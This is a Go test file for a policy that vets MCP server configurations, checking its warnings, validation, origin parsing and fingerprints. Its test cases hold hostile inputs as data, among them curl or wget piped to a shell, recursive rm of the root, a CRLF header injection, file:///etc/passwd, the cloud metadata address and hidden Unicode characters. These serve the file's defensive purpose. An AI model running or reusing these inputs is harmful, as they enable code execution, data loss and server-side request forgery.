package servers

import (
	"slices"
	"strings"
	"testing"
)

func codes(ws []Warning) []string {
	var out []string
	for _, w := range ws {
		out = append(out, w.Code)
	}
	return out
}

func TestWarnings(t *testing.T) {
	p := Policy{LocalOrigins: []string{"https://127.0.0.1:8443"}}
	tests := []struct {
		name string
		c    Config
		want []string
	}{
		{"plain", Config{Kind: KindStdio, Command: "/usr/bin/mcp-server", Args: []string{"--port", "1"}}, nil},
		{"sudo", Config{Kind: KindStdio, Command: "sudo", Args: []string{"mcp"}}, []string{"sudo"}},
		{"sudo in args", Config{Kind: KindStdio, Command: "env", Args: []string{"sudo", "x"}}, []string{"sudo"}},
		{"rm -rf", Config{Kind: KindStdio, Command: "sh", Args: []string{"-c", "rm -rf ~/x && run"}}, []string{"rm-recursive", "shell"}},
		{"rm -fr as the command", Config{Kind: KindStdio, Command: "rm", Args: []string{"-fr", "/"}}, []string{"rm-recursive"}},
		{"curl pipe sh", Config{Kind: KindStdio, Command: "bash", Args: []string{"-c", "curl -fsSL https://x.example/i.sh | sh"}}, []string{"pipe-to-shell", "shell"}},
		{"wget pipe sudo bash", Config{Kind: KindStdio, Command: "sh", Args: []string{"-c", "wget -qO- http://x | sudo bash"}}, []string{"sudo", "pipe-to-shell", "shell", "plain-http"}},
		{"npx", Config{Kind: KindStdio, Command: "npx", Args: []string{"-y", "some-server"}}, []string{"package-runner"}},
		{"http arg", Config{Kind: KindStdio, Command: "srv", Args: []string{"--from", "http://mirror.example"}}, []string{"plain-http"}},
		{"env", Config{Kind: KindStdio, Command: "srv", Env: []string{"TOKEN"}}, []string{"secrets"}},
		{"private host", Config{Kind: KindHTTP, URL: "https://127.0.0.1:8443/mcp"}, []string{"private-host"}},
		{"public https", Config{Kind: KindHTTP, URL: "https://mcp.example.com/mcp"}, nil},
		{"bidi override", Config{Kind: KindStdio, Command: "srv", Args: []string{"--out=report\u202etxt.exe"}}, []string{"hidden-characters"}},
		{"zero-width in url", Config{Kind: KindHTTP, URL: "https://mcp.exa\u200bmple.com/mcp"}, []string{"hidden-characters"}},
		{"tab in cwd", Config{Kind: KindStdio, Command: "srv", Cwd: "a\tb"}, []string{"hidden-characters"}},
	}
	for _, tt := range tests {
		got := codes(p.warnings(tt.c))
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s: warnings %v, want %v", tt.name, got, tt.want)
		}
		for _, w := range p.warnings(tt.c) {
			if w.Message == "" || (w.Severity != "danger" && w.Severity != "caution") {
				t.Errorf("%s: incomplete warning %+v", tt.name, w)
			}
		}
	}
}

func TestValidate(t *testing.T) {
	p := Policy{LocalOrigins: []string{"https://127.0.0.1:8443"}}
	good := []Config{
		{Name: "a", Kind: KindStdio, Command: "srv", Cwd: "sub/dir", Env: []string{"TOKEN"}},
		{Name: "b", Kind: KindHTTP, URL: "https://mcp.example.com/mcp", Headers: []string{"authorization"}},
		{Name: "c", Kind: KindSSE, URL: "https://127.0.0.1:8443/sse"},
		{Name: "d", Kind: KindStdio, Command: "npx", Args: []string{"-y", "pkg@1.0.0"}, Registry: &RegistryRef{URL: "https://registry.example", Name: "io.example/pkg", Version: "1.0.0", EntrySHA256: strings.Repeat("0a", 32)}},
	}
	for _, c := range good {
		if err := p.Validate(&c, Secrets{}); err != nil {
			t.Errorf("%+v refused: %v", c, err)
		}
	}
	bad := map[string]struct {
		c Config
		s Secrets
	}{
		"no name":            {Config{Kind: KindStdio, Command: "x"}, Secrets{}},
		"bad name":           {Config{Name: "a b", Kind: KindStdio, Command: "x"}, Secrets{}},
		"unknown kind":       {Config{Name: "a", Kind: "grpc"}, Secrets{}},
		"no command":         {Config{Name: "a", Kind: KindStdio}, Secrets{}},
		"stdio with url":     {Config{Name: "a", Kind: KindStdio, Command: "x", URL: "https://x"}, Secrets{}},
		"http with command":  {Config{Name: "a", Kind: KindHTTP, Command: "x", URL: "https://x.example"}, Secrets{}},
		"absolute cwd":       {Config{Name: "a", Kind: KindStdio, Command: "x", Cwd: "/etc"}, Secrets{}},
		"escaping cwd":       {Config{Name: "a", Kind: KindStdio, Command: "x", Cwd: "a/../../b"}, Secrets{}},
		"LD_PRELOAD":         {Config{Name: "a", Kind: KindStdio, Command: "x", Env: []string{"LD_PRELOAD"}}, Secrets{}},
		"NODE_OPTIONS":       {Config{Name: "a", Kind: KindStdio, Command: "x", Env: []string{"NODE_OPTIONS"}}, Secrets{}},
		"duplicate env":      {Config{Name: "a", Kind: KindStdio, Command: "x", Env: []string{"A", "A"}}, Secrets{}},
		"undeclared secret":  {Config{Name: "a", Kind: KindStdio, Command: "x"}, Secrets{Env: map[string]string{"A": "v"}}},
		"http url":           {Config{Name: "a", Kind: KindHTTP, URL: "http://x.example/mcp"}, Secrets{}},
		"file url":           {Config{Name: "a", Kind: KindHTTP, URL: "file:///etc/passwd"}, Secrets{}},
		"loopback":           {Config{Name: "a", Kind: KindHTTP, URL: "https://127.0.0.1/mcp"}, Secrets{}},
		"other port":         {Config{Name: "a", Kind: KindHTTP, URL: "https://127.0.0.1:9999/mcp"}, Secrets{}},
		"metadata":           {Config{Name: "a", Kind: KindHTTP, URL: "https://169.254.169.254/"}, Secrets{}},
		"mapped loopback":    {Config{Name: "a", Kind: KindHTTP, URL: "https://[::ffff:127.0.0.1]/"}, Secrets{}},
		"ten":                {Config{Name: "a", Kind: KindHTTP, URL: "https://10.0.0.8/"}, Secrets{}},
		"hop header":         {Config{Name: "a", Kind: KindHTTP, URL: "https://x.example/", Headers: []string{"Host"}}, Secrets{}},
		"header with space":  {Config{Name: "a", Kind: KindHTTP, URL: "https://x.example/", Headers: []string{"X Y"}}, Secrets{}},
		"header value CRLF":  {Config{Name: "a", Kind: KindHTTP, URL: "https://x.example/", Headers: []string{"X-Key"}}, Secrets{Headers: map[string]string{"X-Key": "a\r\nHost: evil"}}},
		"credentials in url": {Config{Name: "a", Kind: KindHTTP, URL: "https://user:pw@x.example/"}, Secrets{}},
		"registry no sha":    {Config{Name: "a", Kind: KindStdio, Command: "x", Registry: &RegistryRef{URL: "https://r.example", Name: "io.x/a", Version: "1"}}, Secrets{}},
		"registry upper sha": {Config{Name: "a", Kind: KindStdio, Command: "x", Registry: &RegistryRef{URL: "https://r.example", Name: "io.x/a", Version: "1", EntrySHA256: strings.Repeat("0A", 32)}}, Secrets{}},
		"registry no name":   {Config{Name: "a", Kind: KindStdio, Command: "x", Registry: &RegistryRef{URL: "https://r.example", Version: "1", EntrySHA256: strings.Repeat("0a", 32)}}, Secrets{}},
		"registry ctl in v":  {Config{Name: "a", Kind: KindStdio, Command: "x", Registry: &RegistryRef{URL: "https://r.example", Name: "io.x/a", Version: "1\n", EntrySHA256: strings.Repeat("0a", 32)}}, Secrets{}},
		"registry file url":  {Config{Name: "a", Kind: KindStdio, Command: "x", Registry: &RegistryRef{URL: "file:///r", Name: "io.x/a", Version: "1", EntrySHA256: strings.Repeat("0a", 32)}}, Secrets{}},
	}
	for name, tc := range bad {
		c := tc.c
		if err := p.Validate(&c, tc.s); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func TestParseOrigins(t *testing.T) {
	got, err := ParseOrigins(" https://127.0.0.1:8443, https://localhost ,https://[::1]:9443")
	want := []string{"https://127.0.0.1:8443", "https://localhost:443", "https://[::1]:9443"}
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("ParseOrigins = %v, %v; want %v", got, err, want)
	}
	for _, bad := range []string{"http://127.0.0.1:80", "https://mcp.internal:443", "https://127.0.0.1/path", "127.0.0.1:8443"} {
		if _, err := ParseOrigins(bad); err == nil {
			t.Errorf("ParseOrigins(%q) accepted", bad)
		}
	}
	p := Policy{LocalOrigins: want[:1]}
	if a := p.allowFor("https://127.0.0.1:8443/mcp"); len(a) != 1 || a[0].String() != "127.0.0.1/32" {
		t.Errorf("allowFor the allowed origin = %v", a)
	}
	for _, u := range []string{"https://127.0.0.1:9443/mcp", "https://loopback.example:8443/mcp"} {
		if a := p.allowFor(u); len(a) != 0 {
			t.Errorf("allowFor(%s) = %v, want nothing", u, a)
		}
	}
}

// TestFingerprintV2Unchanged: a configuration without a registry reference
// keeps exactly the fingerprint it had before references existed (the
// values were computed on the code as it was, and are frozen: stored
// approvals hold them).
func TestFingerprintV2Unchanged(t *testing.T) {
	for _, tc := range []struct {
		c      Config
		v2, v1 string
	}{
		{
			Config{Name: "fs", Kind: KindStdio, Command: "npx", Program: "/usr/bin/npx", Args: []string{"-y", "@modelcontextprotocol/server-filesystem", "/data"}, Cwd: "work", Env: []string{"API_KEY"}},
			"sha256:49ce5cbc18874002433b3570056edea407a33b6d021e1bb9f17755638670b661",
			"sha256:98e59ea0f8aa4557584f45431925de5397acd687ddab9523c6ddfd3d9d9baa71",
		},
		{
			Config{Name: "remote", Kind: KindHTTP, URL: "https://mcp.example.com/mcp", Headers: []string{"Authorization"}},
			"sha256:db03184b2137ce2eb22b5e92039647076ce4189d2c08fd4a8a3ef5775fc918f7",
			"sha256:88cbcb16deece91498a22edcb70445b5a504ef314067ac68670cec1678627430",
		},
	} {
		if got := tc.c.Fingerprint(); got != tc.v2 {
			t.Errorf("%s: fingerprint %s, want %s", tc.c.Name, got, tc.v2)
		}
		if got := tc.c.fingerprintV1(); got != tc.v1 {
			t.Errorf("%s: v1 fingerprint %s, want %s", tc.c.Name, got, tc.v1)
		}
	}
}

// TestFingerprintCoversRegistryEntry: a reference changes the fingerprint,
// and so does each of its parts; an entry whose bytes changed upstream is
// another configuration, and ChangedFields says so.
func TestFingerprintCoversRegistryEntry(t *testing.T) {
	plain := Config{Name: "fs", Kind: KindStdio, Command: "npx", Args: []string{"-y", "pkg@1.0.0"}}
	ref := RegistryRef{URL: "https://registry.example", Name: "io.example/pkg", Version: "1.0.0", EntrySHA256: strings.Repeat("0a", 32)}
	from := func(change func(*RegistryRef)) Config {
		c, r := plain, ref
		change(&r)
		c.Registry = &r
		return c
	}
	base := from(func(*RegistryRef) {})
	seen := map[string]string{plain.Fingerprint(): "no reference", base.Fingerprint(): "base"}
	for name, change := range map[string]func(*RegistryRef){
		"registry url": func(r *RegistryRef) { r.URL = "https://other.example" },
		"name":         func(r *RegistryRef) { r.Name = "io.example/pkg2" },
		"version":      func(r *RegistryRef) { r.Version = "1.0.1" },
		"entry bytes":  func(r *RegistryRef) { r.EntrySHA256 = strings.Repeat("0b", 32) },
	} {
		c := from(change)
		if other, ok := seen[c.Fingerprint()]; ok {
			t.Errorf("%s: same fingerprint as %s", name, other)
		}
		seen[c.Fingerprint()] = name
		if got := ChangedFields(base, c); !slices.Equal(got, []string{"registry"}) {
			t.Errorf("%s: ChangedFields = %v, want [registry]", name, got)
		}
	}
	if got := ChangedFields(plain, base); !slices.Equal(got, []string{"registry"}) {
		t.Errorf("reference added: ChangedFields = %v, want [registry]", got)
	}
}
